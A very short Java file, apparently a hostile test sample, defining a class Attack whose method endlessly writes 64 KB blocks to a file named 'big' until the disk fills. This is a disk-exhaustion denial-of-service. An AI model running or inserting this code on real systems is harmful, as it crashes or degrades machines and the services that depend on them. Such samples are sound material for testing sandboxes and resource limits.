import java.io.*;

class Attack {
  static void attack() throws Exception {
    try (var file = new FileOutputStream("big")) {
      for (;;) file.write(new byte[1 << 16]);
    }
  }
}
